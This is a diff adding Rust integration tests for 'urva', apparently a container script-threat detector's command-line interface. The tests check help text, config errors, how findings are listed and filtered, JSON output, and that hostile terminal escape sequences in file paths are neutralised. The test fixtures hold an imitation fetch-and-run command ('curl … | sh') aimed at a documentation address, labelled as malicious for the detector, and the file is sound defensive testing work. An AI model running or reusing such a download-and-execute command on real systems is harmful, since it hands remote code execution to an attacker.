@@ -1,0 +1,324 @@
+//! The command as people call it: what it prints, where, and with which exit code.
+
+use evidence::{
+    Capture, Container, Content, Drift, Executable, Family, Finding, Interpreter, Label, Language, Metadata,
+    Namespaces, Pod, Process, Reason, Redaction, Runtime, Script, ScriptKind, Technique, Timestamp, Verdict,
+};
+use std::collections::BTreeSet;
+use std::path::Path;
+use std::process::{Command, Output, Stdio};
+use std::time::Duration;
+use store::Store;
+
+const NOON: Timestamp = Timestamp(1_795_262_400_250_000_000);
+
+/// Runs `urva` with a state folder of its own and no config but the one that is given.
+fn urva(state: &Path, args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_urva"))
+        .args(args)
+        .env_clear()
+        .env("URVA_STATE", state)
+        .stdin(Stdio::null())
+        .output()
+        .expect("urva starts")
+}
+
+#[track_caller]
+fn check(output: &Output, code: i32, out: &[&str], error: &[&str]) {
+    let (stdout, stderr) = (text(&output.stdout), text(&output.stderr));
+    assert_eq!(output.status.code(), Some(code), "stdout: {stdout}\nstderr: {stderr}");
+    for (shown, expected) in [(&stdout, out), (&stderr, error)] {
+        for part in expected {
+            assert!(shown.contains(part), "{part:?} is not in: {shown}");
+        }
+    }
+    if error.is_empty() {
+        assert_eq!(stderr, "");
+    }
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8(bytes.to_vec()).expect("UTF-8")
+}
+
+fn folder() -> tempfile::TempDir {
+    tempfile::tempdir().expect("a folder")
+}
+
+/// An imitation: it names an address that does not exist, and is never run.
+fn finding(number: u32, namespace: &str, path: &str) -> Finding {
+    let source = format!("curl -s http://203.0.113.7/{number} | sh\n");
+    let script = Script {
+        path: Some(path.into()),
+        drift: Drift::WritableLayer,
+        ..Script::new(ScriptKind::File, Content::Whole(source.as_str().into()))
+    };
+    let process = Process {
+        pid: number,
+        pid_in_container: 2,
+        parent_pid: 1,
+        started_at: NOON,
+        start_ticks: 7,
+        uid: 0,
+        gid: 0,
+        comm: "sh".into(),
+        cwd: "/".into(),
+        executable: Executable { path: "/bin/dash".into(), size: Some(1), sha256: None },
+        args: vec!["sh".into(), path.into()],
+        environment: Vec::new(),
+        cgroup: "/x".into(),
+        namespaces: Namespaces::default(),
+    };
+    let container = Container {
+        name: Some("app".to_owned()),
+        image: Some("registry.example/app:1".to_owned()),
+        pod: Some(Pod {
+            namespace: Some(namespace.to_owned()),
+            name: Some("app-1".to_owned()),
+            ..Pod::default()
+        }),
+        metadata: Metadata::Complete,
+        ..Container::pending(format!("{number:064x}"), Some(Runtime::Containerd))
+    };
+    let capture = Capture {
+        observed_at: Timestamp(NOON.0 + u64::from(number) * 1_000_000_000),
+        process,
+        interpreter: Interpreter { family: Family::Dash },
+        script,
+        container: Some(container),
+        coverage: BTreeSet::new(),
+    };
+    let reason = Reason {
+        indicator: "fetches a script and runs it".to_owned(),
+        line: Some(1),
+        excerpt: source,
+        weight: 2.5,
+        technique: Some(Technique::IngressToolTransfer),
+    };
+    let verdict = Verdict {
+        label: Label::Malicious,
+        score: 0.99,
+        threshold: 0.5,
+        language: Language::Shell,
+        model: "test@0123456789ab".to_owned(),
+        reasons: vec![reason],
+    };
+    Finding::new(capture, verdict, &Redaction::default()).expect("a malicious verdict on a text")
+}
+
+/// A state folder with three findings, one of which tries to steer the terminal.
+fn filled() -> (tempfile::TempDir, Vec<Finding>) {
+    let state = folder();
+    let findings = vec![
+        finding(1, "shop", "/tmp/one.sh"),
+        finding(2, "shop", "/tmp/\u{1b}[2J\u{202e}two.sh"),
+        finding(3, "bank", "/tmp/three.sh"),
+    ];
+    tokio::runtime::Builder::new_current_thread().build().expect("runtime").block_on(async {
+        let store = Store::open(state.path().join("urva.db")).await.expect("a new store");
+        store.record(&findings, Duration::from_secs(600)).await.expect("recorded");
+        store.close().await.expect("closed");
+    });
+    (state, findings)
+}
+
+#[test]
+fn help_names_commands_examples_and_exit_codes() {
+    let state = folder();
+    let parts = [
+        "Examples:",
+        "urva findings list --since 1h",
+        "Exit codes: 0 clean",
+        "--config <FILE>",
+        "--state <DIR>",
+    ];
+    check(&urva(state.path(), &["--help"]), 0, &parts, &[]);
+    check(&urva(state.path(), &["--version"]), 0, &["urva 0."], &[]);
+    check(&urva(state.path(), &["findings", "show", "--help"]), 0, &["--format"], &[]);
+    check(&urva(state.path(), &["completion", "bash"]), 0, &["complete -F"], &[]);
+}
+
+#[test]
+fn a_wrong_command_line_is_an_error() {
+    let state = folder();
+    check(&urva(state.path(), &["finding"]), 2, &[], &["unrecognized subcommand", "findings"]);
+    check(&urva(state.path(), &["findings", "show", "xyz"]), 2, &[], &["1 to 32 hexadecimal digits"]);
+    check(&urva(state.path(), &["findings", "list", "--limit", "0"]), 2, &[], &["--limit"]);
+    check(
+        &urva(state.path(), &["findings", "list", "--since", "yesterday"]),
+        2,
+        &[],
+        &["--since", "90m, 12h or 7d"],
+    );
+}
+
+#[test]
+fn a_config_that_is_wrong_is_refused_with_file_line_and_key() {
+    let state = folder();
+    let path = state.path().join("urva.toml");
+    let file = path.to_str().expect("UTF-8");
+    for (config, expected) in [
+        (
+            "[findings]\nfold_windw = '1m'\n",
+            "urva.toml, line 2: there is no key in [findings] named fold_windw; did you mean fold_window?",
+        ),
+        ("[capture]\nhost_processes = 'no'\n", "urva.toml, line 2: capture.host_processes: invalid type"),
+        ("[capture\n", "urva.toml, line 1: this is not TOML"),
+    ] {
+        std::fs::write(&path, config).expect("written");
+        for args in [["config", "check"], ["findings", "list"]] {
+            check(
+                &urva(state.path(), &[&["--config", file], &args[..]].concat()),
+                2,
+                &[],
+                &["urva: ", expected],
+            );
+        }
+    }
+    std::fs::write(&path, "[place]\ncluster = 'shop'\n").expect("written");
+    check(&urva(state.path(), &["--config", file, "config", "check"]), 0, &["urva.toml is right."], &[]);
+    check(
+        &urva(state.path(), &["--config", file, "config", "show"]),
+        0,
+        &["cluster = \"shop\"", "fold_window = \"10m\""],
+        &[],
+    );
+}
+
+#[test]
+fn a_config_that_cannot_be_read_is_an_error() {
+    let state = folder();
+    let missing = state.path().join("missing.toml");
+    let missing = missing.to_str().expect("UTF-8");
+    check(
+        &urva(state.path(), &["--config", missing, "config", "check"]),
+        2,
+        &[],
+        &["urva: the config file", "cannot be read"],
+    );
+    let folder = state.path().to_str().expect("UTF-8");
+    check(&urva(state.path(), &["--config", folder, "config", "check"]), 2, &[], &["it is not a file"]);
+}
+
+#[test]
+fn a_state_without_database_is_an_error_that_says_what_to_do() {
+    let state = folder();
+    for args in [&["findings", "list"][..], &["findings", "show", "0"]] {
+        check(&urva(state.path(), args), 2, &[], &["urva: there is no database at", "urva run", "--state"]);
+        check(&urva(&state.path().join("missing"), args), 2, &[], &["urva: there is no database at"]);
+    }
+    assert_eq!(std::fs::read_dir(state.path()).expect("folder").count(), 0, "reading creates nothing");
+}
+
+#[test]
+fn findings_are_listed_last_first_and_harmless() {
+    let (state, findings) = filled();
+    let output = urva(state.path(), &["findings", "list"]);
+    check(
+        &output,
+        0,
+        &["LAST SEEN", "Malicious Script Executed", "shop/app-1/app", "/tmp/\\u{1b}[2J\\u{202e}two"],
+        &[],
+    );
+    let lines = text(&output.stdout);
+    let ids: Vec<&str> = lines.lines().skip(1).filter_map(|line| line.split_whitespace().last()).collect();
+    let expected: Vec<&str> = findings.iter().rev().map(|finding| &finding.id.as_str()[..12]).collect();
+    assert_eq!(ids, expected);
+    assert!(
+        !lines.contains(['\u{1b}', '\u{202e}']),
+        "no colour and no escape outside of a terminal: {lines}"
+    );
+}
+
+#[test]
+fn filters_choose_findings() {
+    let (state, findings) = filled();
+    let container = format!("{:064x}", 2)[..].to_owned();
+    for (filter, expected) in [
+        (&["--namespace", "bank"][..], 1),
+        (&["--container", "app"], 3),
+        (&["--container", &container], 1),
+        (&["--pod", "app-2"], 0),
+        (&["--category", "script"], 3),
+        (&["--category", "python"], 0),
+        (&["--limit", "2"], 2),
+        (&["--since", "2026-11-21T12:00:03Z"], 1),
+    ] {
+        let output = urva(state.path(), &[&["findings", "list", "--format", "jsonl"], filter].concat());
+        assert_eq!(text(&output.stdout).lines().count(), expected, "{filter:?}");
+    }
+    check(&urva(state.path(), &["findings", "list", "--pod", "app-2"]), 0, &["No findings."], &[]);
+    check(&urva(state.path(), &["findings", "list", "--pod", "app-2", "--format", "json"]), 0, &["[]"], &[]);
+    assert_eq!(findings.len(), 3);
+}
+
+#[test]
+fn json_is_the_protocols_and_ascii() {
+    let (state, findings) = filled();
+    let output = urva(state.path(), &["findings", "list", "--format", "json"]);
+    assert!(output.stdout.is_ascii());
+    let list: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
+    assert_eq!(list.as_array().map(Vec::len), Some(3));
+    assert_eq!(list[1]["finding"]["processes"][0]["script"]["path"], "/tmp/\u{1b}[2J\u{202e}two.sh");
+    let id = findings[0].id.as_str();
+    let output = urva(state.path(), &["findings", "show", &id[..8], "--format", "json"]);
+    let one: serde_json::Value = serde_json::from_slice(&output.stdout).expect("JSON");
+    assert_eq!(one, list[2]);
+    assert!(one["finding"]["name"].as_str().is_some_and(|name| name.ends_with(id)));
+}
+
+#[test]
+fn a_card_is_shown_for_the_beginning_of_an_id() {
+    let (state, findings) = filled();
+    let id = findings[0].id.as_str();
+    let parts = [
+        id,
+        "MALICIOUS",
+        "fetches a script and runs it",
+        "curl -s http://203.0.113.7/1 | sh",
+        "What to do",
+        "kubectl exec",
+    ];
+    check(&urva(state.path(), &["findings", "show", &id[..8]]), 0, &parts, &[]);
+    let other = if id.starts_with('0') { "1ffffffffffffff0" } else { "0ffffffffffffff0" };
+    check(
+        &urva(state.path(), &["findings", "show", other]),
+        2,
+        &[],
+        &["urva: no finding has an id that begins with"],
+    );
+}
+
+#[test]
+fn a_reader_that_leaves_early_is_no_error() {
+    let (state, _) = filled();
+    let mut child = Command::new(env!("CARGO_BIN_EXE_urva"))
+        .args(["findings", "list", "--format", "json"])
+        .env("URVA_STATE", state.path())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("urva starts");
+    drop(child.stdout.take());
+    let output = child.wait_with_output().expect("urva ends");
+    check(&output, 0, &[], &[]);
+}
+
+#[test]
+fn training_refuses_what_cannot_work_before_it_begins() {
+    let state = folder();
+    let corpus = state.path().to_str().expect("UTF-8");
+    let model = state.path().join("model");
+    let model = model.to_str().expect("UTF-8");
+    check(&urva(state.path(), &["train", corpus, "--output", model]), 2, &[], &["urva: no corpus file"]);
+    assert_eq!(std::fs::read_dir(state.path()).expect("folder").count(), 0, "nothing is left over");
+    std::fs::write(model, "something").expect("written");
+    check(
+        &urva(state.path(), &["train", corpus, "--output", model]),
+        2,
+        &[],
+        &["urva: ", "exists", "--force"],
+    );
+    check(&urva(state.path(), &["eval", corpus]), 2, &[], &["urva: no corpus file"]);
+    check(&urva(state.path(), &["train", corpus]), 2, &[], &["--output"]);
+}
